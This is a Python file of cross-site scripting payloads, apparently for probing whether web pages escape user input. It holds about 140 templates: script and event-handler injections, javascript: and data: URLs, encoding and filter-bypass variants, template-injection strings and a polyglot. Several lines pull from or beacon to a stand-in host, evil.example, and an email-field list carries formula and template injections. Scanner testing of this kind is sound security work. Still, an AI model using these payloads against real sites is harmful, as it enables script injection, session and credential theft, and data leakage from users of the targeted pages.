"""Texts that become script where a page forgets to escape. RUN stands for the call that would be noticed."""

TEMPLATES = r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
"><script>RUN</script>
'><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</option></select><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
</noscript><script>RUN</script>
</template><script>RUN</script>
</h1></main><script>RUN</script>
<scr<script>ipt>RUN</script>
<<script>RUN//<</script>
<script/x>RUN</script>
<script type=module>RUN</script>
<script src=//evil.example/x.js></script>
<script src="data:,RUN"></script>
<img src=x onerror=RUN>
<IMG SRC=x ONERROR=RUN>
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN//
<img src="x` `<script>RUN</script>"` `>
<image src=x onerror=RUN>
<img srcset=x onerror=RUN>
<input autofocus onfocus=RUN>
" autofocus onfocus=RUN x="
' autofocus onfocus=RUN x='
 autofocus onfocus=RUN 
" onmouseover=RUN x="
' onmouseover=RUN x='
" onpointermove=RUN style=position:fixed;inset:0 x="
<svg onload=RUN>
<svg/onload=RUN>
"><svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=data:,RUN />
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributename=x>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN/>#x">
<svg><foreignObject><script>RUN</script></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style>
<math><mtext><script>RUN</script></mtext></math>
<math href="javascript:RUN">x</math>
<math><mi//xlink:href="data:x,<script>RUN</script>">
<body onload=RUN>
<body onpageshow=RUN>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe onload=RUN></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="javascript:RUN">
<embed src="data:text/html,<script>RUN</script>">
<details open ontoggle=RUN>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<marquee onstart=RUN>x</marquee>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<a href="javascript:RUN" autofocus onfocus=RUN>x</a>
<a href="jAvAsCrIpT:RUN">x</a>
<a href="java&#x09;script:RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<form action="javascript:RUN"><input type=submit autofocus></form>
<button form=x formaction="javascript:RUN">x</button>
<isindex action="javascript:RUN" type=image>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=prefetch href="//evil.example/KNxxx">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/KNxxx)}</style>
<div style="background:url(//evil.example/KNxxx)">
<div style="animation-name:x" onanimationstart=RUN>
<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=RUN>
<x contenteditable autofocus onfocus=RUN>
<x tabindex=1 autofocus onfocus=RUN>
<xss id=x style="transition:outline 1s" ontransitionend=RUN tabindex=1>
<dialog open onclose=RUN>
<template shadowrootmode=open><script>RUN</script></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<p title="--><img src=x onerror=RUN>">
<!--<img src="--><img src=x onerror=RUN>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><script>RUN</script>
<!DOCTYPE x [<!ENTITY y "RUN">]>&y;
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x onerror=RUN&#x3e;
%3Cscript%3ERUN%3C/script%3E
\u003cscript\u003eRUN\u003c/script\u003e
\x3cscript\x3eRUN\x3c/script\x3e
＜script＞RUN＜/script＞
‹script›RUN‹/script›
+ADw-script+AD4-RUN+ADw-/script+AD4-
javascript:RUN
javascript://%0aRUN
data:text/html,<script>RUN</script>
';RUN//
";RUN//
`;RUN//
${RUN}
{{RUN}}
{{constructor.constructor('RUN')()}}
#{RUN} <%= RUN %>
\(RUN)
'-RUN-'
"-RUN-"
\";RUN//
</a><a href=//evil.example/KNxxx>x</a>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=RUN )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=RUN//>
"'`><img src=x onerror=RUN>
'"--></style></script><svg onload=RUN>
<img src=x onerror="RUN" alt="ä€𝄞">
<a href="x" ping="//evil.example/KNxxx">x</a>
<ruby oncopy=RUN>x</ruby><svg onload=RUN>
"""


def payloads():
    """Each with a number of its own, so that it can be found again in the page."""
    found = []
    for index, line in enumerate(line for line in TEMPLATES.split("\n") if line):
        found.append(line.replace("RUN", f"alert('KN{index:03d}')").replace("KNxxx", f"KN{index:03d}"))
    return found


# What the local part of an address may hold (RFC 5322, atext).
LOCAL_PARTS = [
    "'onfocus='x",
    "a'b`c",
    "${alert}",
    "{{7*7}}",
    "%3Cscript%3E",
    "&lt;script&gt;".replace(";", ""),
    "a|b~c",
    "=cmd|x",
    "+ADw-script+AD4-",
    "#{x}",
]
